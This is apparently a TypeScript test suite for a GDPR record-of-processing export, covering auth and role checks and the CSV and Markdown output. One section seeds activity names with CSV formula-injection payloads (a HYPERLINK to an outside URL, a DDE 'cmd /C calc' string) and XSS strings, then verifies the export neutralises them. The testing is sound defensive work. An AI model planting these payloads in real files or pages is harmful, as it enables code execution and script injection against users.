import { tmpdir } from 'node:os';
import { parse } from 'csv-parse/sync';
import { runCli } from '../src/cli/cli';
import { ensureCountries } from '../src/country/country.reference';
import { applyManifest, parseManifest } from '../src/manifest/manifest.service';
import { authAs, startTestApp, type TestApp } from './harness';

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(() => app.close());

const download = (path: string, headers: Record<string, string> = {}) => fetch(`${app.url}${path}`, { headers });

describe('GET /ropa.csv and /ropa.md', () => {
  it.each(['/ropa.csv', '/ropa.md'])('answers 401 for %s without a token', async (path) => {
    const response = await download(path);
    expect(response.status).toBe(401);
    expect(response.headers.get('www-authenticate')).toBe('Bearer');
    expect(await response.json()).toEqual({ error: { code: 'UNAUTHENTICATED', message: `${path} needs a token: send Authorization: Bearer <token>` } });
  });

  it('answers 401 for a bad token', async () => {
    const response = await download('/ropa.csv', { authorization: 'Bearer not.a.jwt' });
    expect(response.status).toBe(401);
    expect(await response.json()).toEqual({ error: { code: 'UNAUTHENTICATED', message: 'Invalid token: the token is malformed' } });
  });

  it.each(['VIEWER', 'ENGINEER', 'SIGNUP_SERVICE'] as const)('answers 403 to a %s', async (role) => {
    const response = await download('/ropa.md', await authAs(role));
    expect(response.status).toBe(403);
    expect(((await response.json()) as { error: unknown }).error).toEqual({
      code: 'FORBIDDEN',
      message: `/ropa.md is for PRIVACY_OFFICER and AUDITOR; this token has ${role}`,
    });
  });

  it('serves the privacy officer a CSV of the seeded map that a CSV parser reads back', async () => {
    const response = await download('/ropa.csv', await authAs('PRIVACY_OFFICER'));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const rows: string[][] = parse(await response.text(), { bom: true, relax_column_count: true });
    expect(rows[1]).toEqual(['Controller', 'PythonMaster, 123 Education Street, Tech City, TC 12345, United States, privacy@pythonmaster.com, +1 (555) 123-4567']);
    expect(rows[2]).toEqual(['Data protection officer', 'Privacy Officer, privacy@pythonmaster.com']);
    expect(rows[4]).toEqual([
      'Activity', 'Purpose', 'Legal basis', 'Categories of data subjects', 'Categories of personal data', 'Recipients',
      'Third-country transfers and safeguards', 'Retention', 'Security measures',
    ]);
    const activities = rows.slice(5);
    expect(activities).toHaveLength(10);
    expect(activities.find((row) => row[0] === 'Process payments')).toEqual([
      'Process payments',
      'Process payments and manage the account',
      'CONTRACT',
      'Customer',
      'Contact data; Financial data; Identity data',
      'PayPal (Payment processing); Stripe (Payment processing)',
      'US: PayPal, BINDING_CORPORATE_RULES (PayPal Binding Corporate Rules); US: Stripe, ADEQUACY_DECISION (EU-US Data Privacy Framework)',
      'Retained for 7 years for tax and accounting purposes.',
      'Access controls; Data minimisation; Encryption; Regular audits',
    ]);
    expect(activities.find((row) => row[0] === 'Research to improve learning outcomes')!.slice(2, 8)).toEqual([
      'LEGITIMATE_INTERESTS: Improving our courses and developing new features and content.',
      'Student; Survey participant',
      'Contact data; Usage data',
      '',
      '',
      'NOT RECORDED',
    ]);
  });

  it('serves an auditor the Markdown record', async () => {
    const response = await download('/ropa.md', await authAs('AUDITOR'));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/markdown; charset=utf-8');
    const md = await response.text();
    expect(md.split('\n').slice(0, 4)).toEqual([
      '# Record of processing activities (GDPR Art. 30(1))',
      '',
      '- **Controller:** PythonMaster, 123 Education Street, Tech City, TC 12345, United States, privacy@pythonmaster.com, +1 (555) 123-4567',
      '- **Data protection officer:** Privacy Officer, privacy@pythonmaster.com',
    ]);
    expect(md.split('\n').filter((line) => line.startsWith('| '))).toHaveLength(11);
  });
});

describe('the record of processing and the registers', () => {
  it('counts neither rights requests nor breaches', async () => {
    const asOfficer = await authAs('PRIVACY_OFFICER');
    const before = await Promise.all(['/ropa.csv', '/ropa.md'].map(async (path) => (await download(path, asOfficer)).text()));
    const request = await app.gql(
      `mutation ($input: RightsRequestInput!) { createRightsRequest(input: $input) { id } }`,
      { input: { right: 'access', receivedAt: '2026-01-05T10:00:00Z', jurisdiction: 'DE', subjectReference: 'user-1', collectionPoints: ['registration'], consents: [] } },
      asOfficer,
    );
    const breach = await app.gql(
      `mutation ($input: BreachInput!) { reportBreach(input: $input) { id } }`,
      { input: { awareAt: '2026-01-05T10:00:00Z', description: 'Laptop lost', processors: ['aws'], risk: 'RISK' } },
      asOfficer,
    );
    expect([request.errors, breach.errors]).toEqual([undefined, undefined]);
    const after = await Promise.all(['/ropa.csv', '/ropa.md'].map(async (path) => (await download(path, asOfficer)).text()));
    expect(after).toEqual(before);
  });
});

describe('hostile names in the exports', () => {
  const HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"y")',
    '@SUM(1)',
    '-2+3+cmd|\' /C calc\'!A0',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'one\rtwo | three\u2028four',
  ];
  const PROCESSOR = "+cmd|' /C calc'!A0";
  let hostile: TestApp;

  beforeAll(async () => {
    hostile = await startTestApp({ seed: false });
    const activities = HOSTILE.map((name, i) => ({
      key: `hostile-${i}`,
      name,
      purpose: 'payments',
      legalBasis: 'CONTRACT',
      dataCategories: ['contact'],
      subjectTypes: [],
      collectionPoints: [],
      securityMeasures: [],
    }));
    const manifest = {
      apiVersion: 'datamap/v1',
      purposes: [{ key: 'payments', name: 'Payments' }],
      dataCategories: [{ key: 'contact', name: 'Contact data' }],
      activities,
      processors: [
        { key: 'hostile', name: PROCESSOR, service: 'Hosting', headquarters: 'DE', status: 'ACTIVE', dataCategories: ['contact'],
          activities: activities.map((a) => a.key), locations: [{ country: 'DE' }] },
      ],
    };
    await ensureCountries(hostile.em());
    await applyManifest(hostile.em(), parseManifest(JSON.stringify(manifest)));
  });
  afterAll(() => hostile.close());

  async function cliRopa(format: 'csv' | 'md') {
    const out: string[] = [];
    const code = await runCli(['ropa', '--format', format], {
      out: (text) => out.push(text),
      err: () => undefined,
      env: {},
      cwd: tmpdir(),
      connect: async () => ({ ...hostile.db, close: async () => undefined }),
    });
    expect(code).toBe(0);
    // As the terminal shows it: the CLI prints the text without its last newline, and the console adds one.
    return `${out.join('\n')}\n`;
  }

  it('neutralises formula cells in /ropa.csv and in the CLI alike, and they read back as text', async () => {
    const response = await fetch(`${hostile.url}/ropa.csv`, { headers: await authAs('PRIVACY_OFFICER') });
    const served = await response.text();
    const printed = await cliRopa('csv');
    for (const csv of [served, printed]) {
      const rows: string[][] = parse(csv, { bom: true, relax_column_count: true });
      const byName = new Map(rows.slice(5).map((row) => [row[0], row]));
      for (const name of HOSTILE) {
        const expected = /^[=+\-@\t\r]/.test(name) ? `'${name}` : name;
        expect(byName.get(expected)).toBeDefined();
        expect(byName.get(expected)![5]).toBe(`'${PROCESSOR} (Hosting)`);
      }
      // No cell of the whole file starts like a formula.
      expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell)).map((cell) => JSON.stringify(cell))).toEqual([]);
    }
    // fetch's text() drops the byte-order mark that both carry.
    expect(printed).toBe(`\uFEFF${served}`);
  });

  it('escapes HTML and line breaks in /ropa.md, so every activity stays one table row', async () => {
    const response = await fetch(`${hostile.url}/ropa.md`, { headers: await authAs('AUDITOR') });
    const md = await response.text();
    expect(md).toBe(await cliRopa('md'));
    expect(md).not.toMatch(/<script|<img/);
    expect(md).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    const lines = md.split(/\r\n|[\n\r\u2028\u2029]/);
    const rows = lines.filter((line) => line.startsWith('|'));
    expect(rows).toHaveLength(2 + HOSTILE.length);
    const cellsOf = (row: string) => row.replace(/\\./g, '').split('|').length;
    expect(new Set(rows.map(cellsOf))).toEqual(new Set([11]));
    expect(rows.find((row) => row.includes('one<br>two'))).toContain('one<br>two \\| three<br>four');
  });
});
